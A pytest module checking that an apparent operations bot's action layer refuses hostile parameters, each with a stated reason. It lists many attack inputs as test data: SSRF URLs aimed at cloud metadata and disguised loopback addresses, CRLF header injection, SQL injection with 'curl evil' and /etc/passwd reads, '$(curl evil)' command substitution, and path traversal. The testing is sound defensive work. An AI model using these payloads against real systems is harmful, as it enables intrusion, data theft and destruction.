"""Parameters that mean harm: each is refused when it is planned, and the refusal names what is wrong with it."""

from __future__ import annotations

from collections.abc import AsyncIterator, Mapping
from typing import Any

import pytest
import pytest_asyncio

from bot.domain.action import Action, Refusal, Value
from tests.integrations.actions.bench import call, everything, refusal

BAD, NOT_ALLOWED = Refusal.BAD_PARAMETER, Refusal.NOT_ALLOWED
Hostile = tuple[str, Mapping[str, Any], Refusal, str]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def shared(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Mapping[str, Action]]:
    async with everything(tmp_path_factory.mktemp("world")) as made:
        yield made


def _url(url: str, reason: Refusal, word: str) -> Hostile:
    return "http.get", {"url": url}, reason, word


URLS: tuple[Hostile, ...] = (
    _url("http://169.254.169.254/latest/meta-data/", NOT_ALLOWED, "HTTP_ACTION_HOSTS"),
    _url("http://metadata.google.internal/computeMetadata/v1/", NOT_ALLOWED, "HTTP_ACTION_HOSTS"),
    _url("http://127.0.0.1/", NOT_ALLOWED, "HTTP_ACTION_HOSTS"),
    _url("http://127.0.0.1:1/", NOT_ALLOWED, "HTTP_ACTION_HOSTS"),
    _url("http://2130706433/", BAD, "hides which address"),
    _url("http://0x7f000001/", BAD, "hides which address"),
    _url("http://0177.0.0.1/", BAD, "hides which address"),
    _url("http://0x7f.0.0.1/", BAD, "hides which address"),
    _url("http://127.1/", BAD, "hides which address"),
    _url("http://127.0.0.01/", BAD, "hides which address"),
    _url("http://[::1]/", NOT_ALLOWED, "HTTP_ACTION_HOSTS"),
    _url("http://[::ffff:127.0.0.1]/", NOT_ALLOWED, "HTTP_ACTION_HOSTS"),
    _url("http://[::ffff:7f00:1]/", NOT_ALLOWED, "HTTP_ACTION_HOSTS"),
    _url("http://[fe80::1%25eth0]/", BAD, "no plain address"),
    _url("http://[fd00:ec2::254]/", NOT_ALLOWED, "HTTP_ACTION_HOSTS"),
    _url("http://localhost@169.254.169.254/", BAD, "before the host"),
    _url("http://localhost:80@evil.example/", BAD, "secret"),
    _url("http://localhost./", BAD, "single dots"),
    _url("http://localhost.evil.example/", NOT_ALLOWED, "HTTP_ACTION_HOSTS"),
    _url("http://LOCALHOST/", BAD, "small letters"),
    _url("http://localh\u043est/", BAD, "not ASCII"),
    _url("http://localhost\u3002evil/", BAD, "not ASCII"),
    _url("http://\u24db\u24dec\u24d0lhost/", BAD, "not ASCII"),
    _url("http://localhost\u200b/", BAD, "cannot be seen"),
    _url("http://localhost\\@evil.example/", BAD, "before the host"),
    _url("http://localhost\\evil/", BAD, "no plain address"),
    _url("http://localhost /", BAD, "no plain address"),
    _url("http://localhost/\r\nHost: evil", BAD, "no plain address"),
    _url("http://localhost/%0d%0aHost:%20evil", BAD, "characters"),
    _url("http://localhost/\x00", BAD, "cannot be seen"),
    _url("http://localhost/a/../../admin", BAD, "dots"),
    _url("http://localhost/a/%2e%2e/admin", BAD, "dots"),
    _url("http://localhost/a#@evil", BAD, "characters"),
    _url("http://localhost:99999/", BAD, "port"),
    _url("file:///etc/passwd", BAD, "no plain address"),
    _url("gopher://localhost/_x", BAD, "no plain address"),
    _url("//localhost/", BAD, "no plain address"),
    _url("http:localhost", BAD, "no plain address"),
    _url("http://localhost/{{ parameters.path }}", BAD, "template"),
    _url(f"http://localhost/{'a' * 3000}", BAD, "2000"),
    _url(f"http://localhost/?api_key={'K7d9' * 10}", BAD, "secret"),
)


def _post(**more: Value) -> Mapping[str, Value]:
    return {"method": "POST", "url": "http://localhost/a", **more}


REQUESTS: tuple[Hostile, ...] = (
    ("http.request", _post(headers={"X-A": "1\r\nX-Evil: 2"}), BAD, "control character"),
    ("http.request", _post(headers={"X-A\r\nX-Evil": "2"}), BAD, "no name of a header"),
    ("http.request", _post(headers={"X-A": "\u2028"}), BAD, "not ASCII"),
    ("http.request", _post(headers={"Host": "evil.example"}), BAD, "steers"),
    ("http.request", _post(headers={"transfer-encoding": "chunked"}), BAD, "steers"),
    ("http.request", _post(headers={"X-Forwarded-For": "127.0.0.1"}), BAD, "steers"),
    ("http.request", _post(headers={"X-HTTP-Method-Override": "DELETE"}), BAD, "steers"),
    ("http.request", _post(headers={"Idempotency-Key": "mine"}), BAD, "steers"),
    ("http.request", _post(headers={"Authorization": "Bearer x"}), BAD, "secret"),
    ("http.request", _post(headers={"X-Accept": f"token={'K7d9' * 9}"}), BAD, "secret"),
    ("http.request", _post(headers={"X-A": "a" * 1001}), BAD, "1000"),
    ("http.request", _post(headers={f"X-{n}": "a" for n in range(17)}), BAD, "16"),
    ("http.request", _post(secret_headers={"Authorization": "deploy-key"}), NOT_ALLOWED, "HTTP_ACTION_SECRETS"),
    ("http.request", _post(body="x" * 70_000), BAD, "65536"),
    ("http.request", {"method": "CONNECT", "url": "http://localhost/"}, BAD, "one of"),
    ("http.request", {"method": "get", "url": "http://localhost/"}, BAD, "one of"),
    ("http.request", {"method": "GET", "url": "http://localhost/", "body": "x"}, BAD, "only reads"),
)


def _read(statement: str, word: str, **values: Value) -> Hostile:
    given: Mapping[str, Value] = {"database": "main", "statement": statement, "values": values}
    return "sql.query", given, BAD, word


def _change(statement: str, word: str, **values: Value) -> Hostile:
    given: Mapping[str, Value] = {"database": "main", "statement": statement, "values": values}
    return "sql.execute", given, BAD, word


STATEMENTS: tuple[Hostile, ...] = (
    _read("select 1; drop table jobs", "more than one"),
    _read("select 1;;; select 2", "more than one"),
    _read("drop table jobs", "begin with"),
    _read("copy jobs to program 'curl evil'", "begin with"),
    _read("do $$ begin perform 1; end $$", "$ is not allowed"),
    _read("select $tag$x$tag$", "$ is not allowed"),
    _read("set role postgres", "begin with"),
    _read("select set_config('log_statement', 'none', false)", "set_config"),
    _read("select pg_terminate_backend(1)", "pg_terminate_backend"),
    _read('select "pg_terminate_backend"(1)', "pg_terminate_backend"),
    _read("select pg_catalog.pg_terminate_backend (1)", "pg_terminate_backend"),
    _read("select pg_catalog . pg_read_file('/etc/passwd')", "pg_read_file"),
    _read("select evil.count(*)", "evil.count"),
    _read("select lo_export(1, '/tmp/x')", "lo_export"),
    _read("select dblink('host=evil', 'x')", "dblink"),
    _read("select query_to_xml('drop table jobs', true, true, '')", "query_to_xml"),
    _read("select pg_sleep(1000)", "pg_sleep"),
    _read("select load_extension('/tmp/evil.so')", "load_extension"),
    _read("select 1 -- and more", "comment"),
    _read("select /* hidden */ 1", "comment"),
    _read(r"select E'\'; drop table jobs'", "letter or U&"),
    _read(r"select U&'\0027'", "letter or U&"),
    _read(r"select 'a\' or 1", "quote"),
    _read("select 'without end", "quote"),
    _read("select * into copied from jobs", "into"),
    _read("select * from jobs for update", "locks"),
    _read("with gone as (delete from jobs returning *) select * from gone", "delete"),
    _read("explain analyze delete from jobs", "begin with"),
    _read("pragma writable_schema = 1", "begin with"),
    _read("attach 'x' as y", "begin with"),
    _read("select * from jobs where name = '{{ parameters.name }}'", "template"),
    _read("select :name", "no value"),
    _read("select 1", "nothing of that name", name="x"),
    _read("select :name", "must be", name=("a", "b")),
    _read("select \u0441ount(*) from jobs", "not allowed in it"),
    _read("select 1\x00", "cannot be seen"),
    _read(f"select {'1 + ' * 4000} 1", "8000"),
    _change("delete from jobs", "without where"),
    _change("update jobs set state = 'x'", "without where"),
    _change("truncate jobs", "begin with"),
    _change("alter table jobs add x int", "begin with"),
    _change("grant all on jobs to public", "begin with"),
    _change("copy jobs from program 'curl evil'", "begin with"),
    _change("insert into jobs with gone as (delete from jobs where id = 1 returning *) select * from gone", "counted"),
    _change("delete from jobs where id = 1; delete from jobs where id = 2", "more than one"),
    _change("select count(*) from jobs", "changes nothing"),
    _change("select count(pg_terminate_backend(pid)) from pg_stat_activity", "right behind"),
    _change("select pg_terminate_backend(pid), pg_terminate_backend(pid) from pg_stat_activity", "right behind"),
    ("sql.query", {"database": "other", "statement": "select 1"}, NOT_ALLOWED, "SQL_URLS"),
    ("sql.query", {"database": "staging/main", "statement": "select 1"}, NOT_ALLOWED, "SQL_URLS"),
    (
        "sql.execute",
        {"database": "main", "statement": "delete from jobs where id > 0", "most_rows": 100_000},
        BAD,
        "1000",
    ),
)


def _start(**more: Value) -> Mapping[str, Value]:
    return {"repository": "acme/checkout", "workflow": "rollback.yml", **more}


OTHERS: tuple[Hostile, ...] = (
    ("github.dispatch_workflow", _start(workflow="../../../user"), BAD, "must look like"),
    ("github.dispatch_workflow", _start(workflow="rollback.yml/dispatches?x=.yml"), BAD, "must look like"),
    ("github.dispatch_workflow", _start(workflow="--repo=evil.yml"), BAD, "must look like"),
    ("github.dispatch_workflow", _start(workflow="release.yml"), NOT_ALLOWED, "GITHUB_WORKFLOWS"),
    ("github.dispatch_workflow", _start(repository="acme/../evil"), BAD, "must look like"),
    ("github.dispatch_workflow", _start(repository="acme/.."), BAD, "owner/name"),
    ("github.dispatch_workflow", _start(repository="acme/check\u043eut"), BAD, "must look like"),
    ("github.dispatch_workflow", _start(repository="acme/checkout\n"), BAD, "must look like"),
    ("github.dispatch_workflow", _start(repository="evil/checkout"), NOT_ALLOWED, "GITHUB_WORKFLOWS"),
    ("github.dispatch_workflow", _start(ref="main/../../x"), BAD, "no name of a branch"),
    ("github.dispatch_workflow", _start(ref="--force"), BAD, "no name of a branch"),
    ("github.dispatch_workflow", _start(ref="main\nrefs/heads/x"), BAD, "control character"),
    ("github.dispatch_workflow", _start(inputs={"version": "$(curl evil)\n"}), BAD, "control character"),
    ("github.dispatch_workflow", _start(inputs={"version": "{{ 7 * 7 }}"}), BAD, "template"),
    ("github.dispatch_workflow", _start(inputs={"request": "mine"}), BAD, "no name of an input"),
    ("github.dispatch_workflow", _start(inputs={f"i{n}": "x" for n in range(30)}), BAD, "fewer than"),
    ("github.dispatch_workflow", _start(inputs={"version": "v" * 2000}), BAD, "1000"),
    ("github.dispatch_workflow", _start(inputs={"token": f"ghp_{'a1B2' * 9}"}), BAD, "secret"),
    ("github.revert_pull", {"repository": "acme/other", "number": 1}, NOT_ALLOWED, "GITHUB_REVERTS"),
    ("github.revert_pull", {"repository": "acme/checkout", "number": -1}, BAD, "at least"),
    ("github.revert_pull", {"repository": "acme/checkout", "number": "11/../12"}, BAD, "whole number"),
    ("pagerduty.note", {"text": "x", "incident": "../users"}, BAD, "must look like"),
    ("pagerduty.note", {"text": "x\u202e"}, BAD, "cannot be seen"),
    ("pagerduty.note", {"text": "x" * 3000}, BAD, "2000"),
    ("pagerduty.note", {"text": "   "}, BAD, "says nothing"),
    ("pagerduty.note", {"text": "{% raw %}"}, BAD, "template"),
    ("pagerduty.page", {"text": "one\ntwo"}, BAD, "one line"),
    ("pagerduty.page", {"text": "x", "service": "nobody"}, BAD, "nobody"),
    ("pagerduty.escalate", {"level": 99}, BAD, "20"),
    ("pagerduty.escalate", {"level": 7}, BAD, "nobody is on call"),
    ("prometheus.query", {"query": "up\x00"}, BAD, "cannot be seen"),
    ("prometheus.query", {"query": "x" * 5000}, BAD, "4000"),
    ("prometheus.query", {"query": "up{pod=\"{{ pod }}\"}"}, BAD, "template"),
    ("prometheus.query", {"query": "up", "minutes": 100_000}, BAD, "1440"),
    ("elasticsearch.search", {"query": "*", "since": "52w"}, BAD, "must look like"),
    ("elasticsearch.search", {"query": "*", "since": "9999h"}, BAD, "a week"),
    ("elasticsearch.search", {"query": "*", "lines": 10_000}, BAD, "50"),
    ("elasticsearch.search", {"query": "a\u200bb"}, BAD, "cannot be seen"),
    ("wait", {"seconds": 3601}, BAD, "3600"),
    ("wait", {"seconds": 60}, BAD, "timeout"),
    ("wait", {"seconds": float("inf")}, BAD, "must be"),
    ("manual", {"instructions": "x" * 5000}, BAD, "3000"),
    ("manual", {"instructions": "Do {{ this }}"}, BAD, "template"),
)  # fmt: skip
ALL = (*URLS, *REQUESTS, *STATEMENTS, *OTHERS)


def test_there_are_many() -> None:
    assert len(ALL) >= 150
    assert len({str(case) for case in ALL}) == len(ALL)


@pytest.mark.asyncio(loop_scope="module")
@pytest.mark.parametrize("case", ALL, ids=lambda case: f"{case[0]}-{ascii(list(case[1].values()))[:70]}")
async def test_it_is_refused_with_its_reason(shared: Mapping[str, Action], case: Hostile) -> None:
    name, given, reason, word = case
    refused = await refusal(shared[name], call(name, **given))
    assert refused.reason is reason, refused.detail
    assert word in refused.detail
    assert refused.parameter.split(".")[0].split("[")[0] in {*given, "values"}
    assert refused.detail.isprintable(), "it must be fit to be shown"
    assert len(refused.detail) < 700
